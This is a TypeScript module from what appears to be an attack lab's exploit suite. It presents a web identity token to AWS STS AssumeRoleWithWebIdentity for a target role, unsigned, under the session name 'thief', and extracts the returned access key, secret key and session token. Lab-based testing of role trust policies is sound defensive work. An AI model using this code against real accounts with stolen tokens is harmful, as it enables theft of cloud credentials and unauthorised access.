/** What an attacker sends to STS. */
import type { Session } from "../exploits/aws-thief";
import { Refused } from "../exploits/outcome";
import type { AttackContext } from "./attack";

/** Parameters of AssumeRoleWithWebIdentity in place of the usual ones; undefined leaves one out. */
export type StsParameters = Readonly<Record<string, string | undefined>>;

/** Presents a token as {@link openSession} does. @returns the session's ARN @throws Refused */
export async function presentToken(
  context: AttackContext,
  token: string,
  parameters: StsParameters = {},
): Promise<string> {
  return (await openSession(context, token, parameters)).arn;
}

/**
 * Presents a token to STS for the target's role, unsigned and from anywhere.
 *
 * @throws Refused with the code and the text of STS
 */
export async function openSession(
  { lab, target }: AttackContext,
  token: string,
  parameters: StsParameters = {},
): Promise<Session> {
  const usual = { Action: "AssumeRoleWithWebIdentity", Version: "2011-06-15", RoleSessionName: "thief" };
  const all: StsParameters = {
    ...usual,
    RoleArn: target.roleArn,
    WebIdentityToken: token,
    ...parameters,
  };
  const body = new URLSearchParams();
  for (const [name, value] of Object.entries(all)) {
    if (value !== undefined) {
      body.set(name, value);
    }
  }
  const response = await fetch(lab.aws.url, { method: "POST", body });
  const answer = await response.text();
  const element = (name: string) => new RegExp(`<${name}>([^<]*)</${name}>`).exec(answer)?.[1] ?? "";
  if (!response.ok) {
    throw new Refused(element("Code"), plainText(element("Message")));
  }
  return {
    arn: element("Arn"),
    accessKeyId: element("AccessKeyId"),
    secretAccessKey: element("SecretAccessKey"),
    sessionToken: element("SessionToken"),
    expiration: new Date(element("Expiration")),
  };
}

function plainText(characterData: string): string {
  return characterData.replaceAll("&lt;", "<").replaceAll("&gt;", ">").replaceAll("&amp;", "&");
}
